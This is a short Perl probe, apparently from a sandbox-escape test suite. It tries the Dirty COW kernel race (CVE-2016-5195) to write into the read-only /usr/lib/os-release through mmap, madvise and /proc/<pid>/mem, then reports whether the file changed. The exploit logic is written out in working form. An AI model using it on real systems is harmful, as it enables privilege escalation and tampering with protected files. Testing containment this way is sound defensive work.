# tries: write into a file that it may only read, by a race between a private copy and its removal (CVE-2016-5195: Dirty COW)
# because: kernels that Atoll takes have the mend; in gVisor and a machine the pages are another kernel's
my $file = "/usr/lib/os-release"; open my $f, "<", $file or die "$file: $!"; my $before = do { local $/; <$f> };
my $place = call(9, 0, 4096, 1, 2, fileno($f), 0); refused("mmap: $!") if $place == -1;
# The child throws its private copy of the page away, again and again; this process writes into that page meanwhile.
my $child = fork // die "$!"; if (!$child) { call(28, $place, 4096, 4) while 1 }
my ($written, $why) = (0, "");
if (open my $memory, "+<", "/proc/$child/mem") { for (1 .. 5000) { sysseek($memory, $place, 0); (syswrite($memory, "!") // 0) == 1 ? $written++ : ($why = $!) } } else { $why = $! }
kill 9, $child; open my $again, "<", $file or die "$!"; my $now = do { local $/; <$again> };
succeeded("$file was changed") if $now ne $before; refused("no write: $why") if !$written; held("$written writes went into copies");
